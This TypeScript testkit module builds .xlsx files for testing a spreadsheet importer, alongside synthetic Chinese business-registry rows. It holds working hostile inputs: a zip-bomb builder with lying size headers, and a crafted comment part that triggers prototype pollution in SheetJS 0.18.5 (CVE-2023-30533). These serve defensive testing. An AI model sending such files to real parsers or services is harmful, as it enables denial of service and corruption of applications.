/**
 * Test and benchmark support: hand-made .xlsx files, including hostile ones (zip bombs, lying
 * headers, crafted parts). Not used by the application; exported as `@choucha/importer/testkit`.
 */
import zlib from 'node:zlib';

type Chunk = Uint8Array | string;

export interface ZipEntryInput {
  readonly name: string;
  /** The content, or (for big parts) chunks that are deflated as they come. */
  readonly data: Chunk | Iterable<Chunk> | AsyncIterable<Chunk>;
  /** Stored (method 0) instead of deflated. */
  readonly store?: boolean;
  /** A lie: the uncompressed size written in both headers instead of the real one. */
  readonly declaredSize?: number;
  /** Already deflated (raw) data with its real size and CRC (see `repeatedDeflate`). */
  readonly raw?: { readonly deflated: Buffer; readonly size: number; readonly crc: number };
}

const enc = new TextEncoder();
const bytes = (c: Chunk): Uint8Array => (typeof c === 'string' ? enc.encode(c) : c);

async function deflateEntry(
  data: ZipEntryInput['data'],
  store: boolean,
): Promise<{ out: Buffer; size: number; crc: number }> {
  const chunks: Iterable<Chunk> | AsyncIterable<Chunk> =
    typeof data === 'string' || data instanceof Uint8Array ? [data] : data;
  let size = 0;
  let crc = 0;
  if (store) {
    const parts: Uint8Array[] = [];
    for await (const c of chunks) {
      const b = bytes(c);
      parts.push(b);
      size += b.length;
      crc = zlib.crc32(b, crc);
    }
    return { out: Buffer.concat(parts), size, crc };
  }
  const d = zlib.createDeflateRaw({ level: 6 });
  const outParts: Buffer[] = [];
  d.on('data', (b: Buffer) => outParts.push(b));
  const done = new Promise<void>((resolve, reject) => {
    d.on('end', resolve);
    d.on('error', reject);
  });
  for await (const c of chunks) {
    const b = bytes(c);
    size += b.length;
    crc = zlib.crc32(b, crc);
    if (!d.write(b)) await new Promise((r) => d.once('drain', r));
  }
  d.end();
  await done;
  return { out: Buffer.concat(outParts), size, crc };
}

/** A zip file (no zip64, no data descriptors) of the entries, in order. */
export async function zipFile(entries: readonly ZipEntryInput[]): Promise<Buffer> {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const method = e.store ? 0 : 8;
    const { out, size, crc } = e.raw
      ? { out: e.raw.deflated, size: e.raw.size, crc: e.raw.crc }
      : await deflateEntry(e.data, e.store ?? false);
    const usize = e.declaredSize ?? size;
    const name = Buffer.from(e.name, 'utf8');
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(0x0800, 6); // UTF-8 names
    lh.writeUInt16LE(method, 8);
    lh.writeUInt32LE(0x00210000, 10); // 1980-01-01 00:00
    lh.writeUInt32LE(crc >>> 0, 14);
    lh.writeUInt32LE(out.length, 18);
    lh.writeUInt32LE(usize >>> 0, 22);
    lh.writeUInt16LE(name.length, 26);
    lh.writeUInt16LE(0, 28);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(0x0800, 8);
    ch.writeUInt16LE(method, 10);
    ch.writeUInt32LE(0x00210000, 12);
    ch.writeUInt32LE(crc >>> 0, 16);
    ch.writeUInt32LE(out.length, 20);
    ch.writeUInt32LE(usize >>> 0, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    locals.push(lh, name, out);
    central.push(ch, name);
    offset += lh.length + name.length + out.length;
  }
  const cd = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

/**
 * Raw deflate of prefix + unit × times + suffix without ever holding (or deflating) the whole:
 * the unit is deflated once, ending on a full flush (byte-aligned, no back references), and that
 * block sequence repeated. 1 GiB of one byte deflates to about 1 MiB this way, in milliseconds.
 */
export function repeatedDeflate(
  prefix: string,
  unit: Uint8Array,
  times: number,
  suffix: string,
): { deflated: Buffer; size: number; crc: number } {
  const flush = { finishFlush: zlib.constants.Z_FULL_FLUSH, level: 9 };
  const head = zlib.deflateRawSync(enc.encode(prefix), flush);
  const block = zlib.deflateRawSync(unit, flush);
  const tail = zlib.deflateRawSync(enc.encode(suffix), { level: 9 });
  let crc = zlib.crc32(prefix);
  for (let i = 0; i < times; i++) crc = zlib.crc32(unit, crc);
  crc = zlib.crc32(suffix, crc);
  const parts: Buffer[] = [head];
  for (let i = 0; i < times; i++) parts.push(block);
  parts.push(tail);
  return {
    deflated: Buffer.concat(parts),
    size: Buffer.byteLength(prefix) + unit.length * times + Buffer.byteLength(suffix),
    crc,
  };
}

const SHEET_OPEN =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>';
const SHEET_CLOSE = '</sheetData></worksheet>';

function xmlText(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

function colName(c: number): string {
  let s = '';
  for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

/**
 * Sheet XML for rows of text cells, in chunks of about 1 MiB: inline strings, or (given a table to
 * fill, as Excel writes them) indexes into the shared strings, see `sharedStringsXml`.
 */
export function* sheetXml(
  rows: Iterable<readonly string[]>,
  shared?: Map<string, number>,
): Generator<string> {
  let buf = SHEET_OPEN;
  let r = 0;
  for (const row of rows) {
    r++;
    buf += `<row r="${r}">`;
    row.forEach((v, c) => {
      if (v === '') return;
      if (shared) {
        let i = shared.get(v);
        if (i === undefined) shared.set(v, (i = shared.size));
        buf += `<c r="${colName(c)}${r}" t="s"><v>${i}</v></c>`;
      } else buf += `<c r="${colName(c)}${r}" t="inlineStr"><is><t>${xmlText(v)}</t></is></c>`;
    });
    buf += '</row>';
    if (buf.length > 1 << 19) {
      yield buf;
      buf = '';
    }
  }
  yield buf + SHEET_CLOSE;
}

/** xl/sharedStrings.xml for the table that `sheetXml` filled (call after consuming it). */
export function* sharedStringsXml(shared: Map<string, number>): Generator<string> {
  let buf = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${shared.size}" uniqueCount="${shared.size}">`;
  for (const s of shared.keys()) {
    buf += `<si><t>${xmlText(s)}</t></si>`;
    if (buf.length > 1 << 19) {
      yield buf;
      buf = '';
    }
  }
  yield `${buf}</sst>`;
}

export interface XlsxParts {
  /** xl/worksheets/sheet1.xml, or its raw deflate (see repeatedDeflate) */
  readonly sheet: ZipEntryInput['data'] | { readonly raw: NonNullable<ZipEntryInput['raw']> };
  /** more parts, and the sheet's relationships (xl/worksheets/_rels/sheet1.xml.rels) */
  readonly extra?: readonly ZipEntryInput[];
  readonly declaredSheetSize?: number;
  /** the shared strings table the sheet's generator fills (see sheetXml) */
  readonly sharedStrings?: Map<string, number>;
}

/** The smallest workbook SheetJS (and Excel) reads: one sheet named Sheet1. */
export async function xlsxFile(parts: XlsxParts): Promise<Buffer> {
  const extraNames = (parts.extra ?? []).map((e) => e.name);
  const overrides = [
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
    ...extraNames
      .filter((n) => /comments\d*\.xml$/.test(n))
      .map(
        (n) =>
          `<Override PartName="/${n}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/>`,
      ),
    parts.sharedStrings
      ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
      : '',
  ].join('');
  const sheet = parts.sheet;
  const sheetEntry: ZipEntryInput =
    typeof sheet === 'object' && sheet !== null && 'raw' in sheet
      ? { name: 'xl/worksheets/sheet1.xml', data: '', raw: sheet.raw }
      : { name: 'xl/worksheets/sheet1.xml', data: sheet as ZipEntryInput['data'] };
  return zipFile([
    {
      name: '[Content_Types].xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides}</Types>`,
    },
    {
      name: '_rels/.rels',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    },
    {
      name: 'xl/workbook.xml',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>${parts.sharedStrings ? '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>' : ''}</Relationships>`,
    },
    parts.declaredSheetSize !== undefined
      ? { ...sheetEntry, declaredSize: parts.declaredSheetSize }
      : sheetEntry,
    ...(parts.sharedStrings
      ? [{ name: 'xl/sharedStrings.xml', data: sharedStringsXml(parts.sharedStrings) }]
      : []),
    ...(parts.extra ?? []),
  ]);
}

/** A zip bomb: a valid sheet whose one cell holds `inflatedBytes` zeros, deflated about 1000:1. */
export async function zipBombXlsx(
  inflatedBytes: number,
  opts: { declaredSheetSize?: number } = {},
): Promise<Buffer> {
  const unit = new Uint8Array(1 << 20).fill(0x30);
  const raw = repeatedDeflate(
    `${SHEET_OPEN}<row r="1"><c r="A1"><v>`,
    unit,
    Math.max(1, Math.round(inflatedBytes / unit.length)),
    `</v></c></row>${SHEET_CLOSE}`,
  );
  return xlsxFile({
    sheet: { raw },
    ...(opts.declaredSheetSize !== undefined ? { declaredSheetSize: opts.declaredSheetSize } : {}),
  });
}

/** Entity rows in the importer's vocabulary (a header row, then `n` rows); deterministic. */
export function* entityRows(n: number): Generator<string[]> {
  yield [
    '企业名称',
    '注册号',
    '主体类型',
    '所属街道',
    '住所',
    '法定代表人',
    '成立日期',
    '登记状态',
    '联系电话',
  ];
  const streets = ['张家村街道', '柏树林街道', '南院门街道', '长乐坊街道', '东关南街街道', '太乙路街道'];
  for (let i = 0; i < n; i++) {
    const s = streets[i % streets.length] as string;
    yield [
      `西安市碑林区测试商贸有限公司${i}`,
      '',
      i % 3 === 0 ? '个体工商户' : '有限责任公司',
      s,
      `碑林区${s}${i % 500}号`,
      `张${i % 97}`,
      '2019-03-05',
      '存续',
      `029-8765${String(i % 10000).padStart(4, '0')}`,
    ];
  }
}

/**
 * CVE-2023-30533 as a file: a cell comment whose ref is `__proto__`. SheetJS 0.18.5 reading it in
 * the calling realm sets `Object.prototype.c` (every object then has a `c`).
 */
export async function prototypePollutionXlsx(): Promise<Buffer> {
  return xlsxFile({
    sheet: sheetXml([
      ['企业名称', '注册号'],
      ['西安市碑林区甲乙丙商贸有限公司', '610103600123456'],
    ]),
    extra: [
      {
        name: 'xl/worksheets/_rels/sheet1.xml.rels',
        data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="../comments1.xml"/></Relationships>',
      },
      {
        name: 'xl/comments1.xml',
        data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>a</author></authors><commentList><comment ref="__proto__" authorId="0"><text><t>polluted</t></text></comment></commentList></comments>',
      },
    ],
  });
}

/** Entity workbook of `n` data rows (shared strings, as Excel writes them). */
export async function entityXlsx(n: number, cols = 9): Promise<Buffer> {
  const shared = new Map<string, number>();
  function* rows(): Generator<string[]> {
    for (const r of entityRows(n)) yield r.slice(0, cols);
  }
  return xlsxFile({ sheet: sheetXml(rows(), shared), sharedStrings: shared });
}
